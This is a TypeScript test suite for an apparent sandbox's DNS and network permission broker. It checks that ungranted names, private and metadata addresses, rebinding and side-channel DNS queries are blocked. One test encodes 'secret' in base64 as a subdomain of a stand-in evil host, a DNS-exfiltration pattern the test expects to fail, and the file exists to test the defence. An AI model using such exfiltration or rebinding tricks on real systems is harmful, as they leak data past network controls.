// Names: only granted ones are looked up, and only their addresses are reached.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { makeProject, type Outcome, type Owner } from "../harness/index.ts";
import { makeWorld, otherSite, ownAddress, privateSite, publicSite, type World } from "./world.ts";

const zone = {
  "www.site.example": { A: [publicSite], TXT: ["hello"], MX: ["mail.site.example"] },
  "alias.site.example": { CNAME: ["edge.network.example"] },
  "edge.network.example": { A: [publicSite] },
  "inside.site.example": { A: [privateSite] },
  "mixed.site.example": { A: [privateSite, publicSite, "127.0.0.1", "169.254.169.254"], AAAA: ["::1", "fd00::1", "::ffff:7f00:1"] },
  "rebound.site.example": { A: [[publicSite], ["127.0.0.1"], [privateSite]] },
  "_db._tcp.www.site.example": { SRV: [{ port: 80, target: "node1.network.example" }] },
  "node1.network.example": { A: [otherSite] },
  "large.site.example": { TXT: Array.from({ length: 40 }, (_, index) => `${index}`.padStart(200, "x")) },
  "db.corp.example": { A: [publicSite] },
  "14.215.184.93.in-addr.arpa": { PTR: ["www.site.example"] },
  "1.0.99.10.in-addr.arpa": { PTR: ["router.site.example"] },
};

let world: World;
before(async () => {
  world = await makeWorld(zone);
});
after(() => world.close());

/** What a program prints under these flags. */
async function run(t: Owner, program: string, ...flags: string[]): Promise<Outcome> {
  const project = makeProject(t, {
    "main.mjs": `
      import dns from "node:dns";
      import net from "node:net";
      const reach = (host, port = 80) => new Promise((resolve) => {
        const socket = net.connect({ host, port, autoSelectFamily: false }, () => { socket.destroy(); resolve("reached"); });
        socket.on("error", (error) => resolve(error.code));
      });
      const look = (name, options = {}) => dns.promises.lookup(name, { all: true, ...options }).then((all) => all.map((one) => one.address).join(), (error) => error.code);
      const get = (url) => fetch(url).then((response) => response.text(), (error) => error.cause.code);
      ${program}`,
  });
  return world.cordonRun(project.folder, [...flags, "main.mjs"]);
}

async function prints(t: Owner, program: string, flags: readonly string[], expected: string): Promise<Outcome> {
  const outcome = await run(t, program, ...flags);
  assert.equal(outcome.stdout.trim(), expected, outcome.stderr);
  return outcome;
}

test("a granted name is fetched", async (t) => {
  await prints(t, "console.log(await get('http://www.site.example/'))", ["--allow-net=www.site.example:80"], `site ${publicSite}`);
});

test("a name that is not granted fails at once, and nobody is asked", async (t) => {
  const program = "const start = Date.now(); console.log(await look('c2VjcmV0.evil.example'), await dns.promises.resolve4('d2VjcmV0.evil.example').catch((error) => error.code), Date.now() - start < 3000)";
  const outcome = await prints(t, program, ["--allow-net=www.site.example:80"], "EAI_AGAIN EREFUSED true");
  assert.deepEqual(world.asked().filter((name) => name.includes("evil")), []);
  assert.match(outcome.stderr, /net c2VjcmV0\.evil\.example/i);
});

test("a name covers its port only", async (t) => {
  await prints(t, "console.log(await reach('www.site.example', 81))", ["--allow-net=www.site.example:80"], "EACCES");
});

test("an address is reached by a name only after the broker handed it out", async (t) => {
  const program = `console.log(await reach('${publicSite}'), await look('www.site.example'), await reach('${publicSite}'), await reach('${otherSite}'))`;
  await prints(t, program, ["--allow-net=www.site.example:80"], `EACCES ${publicSite} reached EACCES`);
});

test("addresses that are not public are dropped from the answer, one by one", async (t) => {
  const program = `console.log(await look('mixed.site.example'), await look('inside.site.example'), await reach('${privateSite}'), await reach('127.0.0.1'))`;
  const outcome = await prints(t, program, ["--allow-net=*.site.example"], `${publicSite} ENOTFOUND EACCES EACCES`);
  assert.match(outcome.stderr, /private:inside\.site\.example/);
});

test("a private grant reaches them", async (t) => {
  await prints(t, "console.log(await get('http://inside.site.example/'))", ["--allow-net=private:inside.site.example:80"], `site ${privateSite}`);
});

test("a name that is rebound to a private address stays where it was", async (t) => {
  const program = `const name = 'rebound.site.example'; console.log(await look(name, { family: 4 }), await look(name, { family: 4 }), await look(name, { family: 4 }), await reach('127.0.0.1'), await reach('${privateSite}'))`;
  await prints(t, program, ["--allow-net=rebound.site.example:80"], `${publicSite} ENOTFOUND ENOTFOUND EACCES EACCES`);
});

test("aliases and service records lead on", async (t) => {
  const alias = "console.log(await get('http://alias.site.example/'), await dns.promises.resolveCname('alias.site.example'))";
  await prints(t, alias, ["--allow-net=alias.site.example:80"], `site ${publicSite} [ 'edge.network.example' ]`);
  const service = "const [found] = await dns.promises.resolveSrv('_db._tcp.www.site.example'); console.log(found.name, await reach(found.name, found.port), await reach(found.name, 81))";
  await prints(t, service, ["--allow-net=www.site.example:80"], "node1.network.example reached EACCES");
});

test("every kind of record is asked for by c-ares", async (t) => {
  const program = "const { promises } = dns; console.log(await promises.resolve4('www.site.example'), await promises.resolveTxt('www.site.example'), (await promises.resolveMx('www.site.example'))[0].exchange)";
  await prints(t, program, ["--allow-net=www.site.example:80"], `[ '${publicSite}' ] [ [ 'hello' ] ] mail.site.example`);
});

test("a nameserver of the program's own choice is the broker", async (t) => {
  const program = "const own = new dns.promises.Resolver(); own.setServers(['8.8.8.8', '[2001:4860:4860::8888]']); console.log(await own.resolve4('www.site.example'), await own.resolve4('b.evil.example').catch((error) => error.code))";
  await prints(t, program, ["--allow-net=www.site.example:80", "--allow-net=8.8.8.8:443"], `[ '${publicSite}' ] EREFUSED`);
});

test("an answer that is too large for a datagram comes over TCP", async (t) => {
  await prints(t, "console.log((await dns.promises.resolveTxt('large.site.example')).length)", ["--allow-net=large.site.example:80"], "40");
});

test("the C library of a child process asks the broker too", async (t) => {
  const program = "import { spawnSync } from 'node:child_process'; const ask = (name) => spawnSync('getent', ['ahostsv4', name]).stdout.toString().split(' ')[0]; console.log(ask('www.site.example'), ask('c.evil.example') === '')";
  await prints(t, program, ["--allow-net=www.site.example:80", "--allow-run=getent"], `${publicSite} true`);
});

test("a search domain completes a granted name", async (t) => {
  await prints(t, "console.log(await look('db'), await look('other'))", ["--allow-net=db:80"], `${publicSite} EAI_AGAIN`);
  assert.ok(!world.asked().includes("other.corp.example"));
});

test("an address of the machine's own is not the public internet", async (t) => {
  const canary = world.startHere(process.execPath, ["-e", `require("net").createServer().listen(8080, "${ownAddress}", () => console.log("ready"))`]);
  await canary.prints("ready");
  try {
    const program = `console.log(await reach('${ownAddress}', 8080))`;
    await prints(t, program, ["--allow-net=*"], "EACCES");
    await prints(t, program, [`--allow-net=${ownAddress}:8080`], "reached");
  } finally {
    canary.child.kill("SIGKILL");
  }
});

test("the public internet is reached by *, private addresses are not", async (t) => {
  await prints(t, `console.log(await reach('${publicSite}'), await reach('${privateSite}'), await get('http://www.site.example/'))`, ["--allow-net=*:80"], `reached EACCES site ${publicSite}`);
});

test("deny wins over the public internet", async (t) => {
  await prints(t, "console.log(await look('www.site.example'))", ["--allow-net=*", "--deny-net=www.site.example"], "EAI_AGAIN");
});

test("only addresses that were handed out are looked up in reverse", async (t) => {
  const program = `const back = (address) => dns.promises.reverse(address).catch((error) => error.code); await look('www.site.example'); console.log(await back('${publicSite}'), await back('${privateSite}'))`;
  await prints(t, program, ["--allow-net=www.site.example:80"], "[ 'www.site.example' ] ENOTFOUND");
});

test("names of /etc/hosts are reached when they are granted", async (t) => {
  const project = makeProject(t, { hosts: `127.0.0.1 localhost\n${publicSite} pinned.example\n`, "main.mjs": "fetch('http://pinned.example/').then((response) => response.text()).then(console.log)" });
  const outcome = await world.cordonRun(project.folder, ["--allow-net=pinned.example:80", "main.mjs"], project.path("hosts"));
  assert.equal(outcome.stdout, `site ${publicSite}\n`, outcome.stderr);
});

test("datagrams to any nameserver reach the broker's, and its replies look like that nameserver's", async (t) => {
  const program = `
    import dgram from "node:dgram";
    const question = Buffer.from("000701000001000000000000037777770473697465076578616d706c650000010001", "hex");
    const socket = dgram.createSocket("udp4");
    socket.on("message", (reply) => { console.log(reply.readUInt16BE(0), reply[3] & 15); socket.close(); });
    socket.send(question, 53, "9.9.9.9");`;
  await prints(t, program, ["--allow-net=www.site.example:80"], "7 0");
});

test("other processes of the machine and other jails get no answer", async (t) => {
  const find = `
    const found = require("child_process").execFileSync("ss", ["-Hlun"]).toString().match(/127\\.0\\.0\\.1:\\d+/g);
    console.log([...new Set(found.map((text) => text.split(":")[1]))].join());`;
  const ask = (ports: string): string => `
    const socket = require("dgram").createSocket("udp4");
    socket.on("message", () => console.log("answered"));
    const question = Buffer.from("000701000001000000000000037777770473697465076578616d706c650000010001", "hex");
    socket.bind(0, "127.0.0.1", () => { for (const port of [${ports}]) socket.send(question, port, "127.0.0.1"); });
    setTimeout(() => { console.log("asked", "${ports}"); process.exit(); }, 1000);`;
  const jailed = run(t, "console.log(await look('www.site.example')); setTimeout(() => {}, 6000)", "--allow-net=www.site.example:80");
  await new Promise((resolve) => setTimeout(resolve, 1000));
  const ports = (await world.startHere(process.execPath, ["-e", find]).ended).stdout.trim();
  assert.match(ports, /^\d+$/);
  assert.equal((await world.startHere(process.execPath, ["-e", ask(ports)]).ended).stdout, `asked ${ports}\n`);
  const other = makeProject(t, { "main.cjs": ask(ports) });
  assert.equal((await world.cordonRun(other.folder, ["--allow-net=127.0.0.1", "main.cjs"])).stdout, `asked ${ports}\n`);
  await jailed;
});
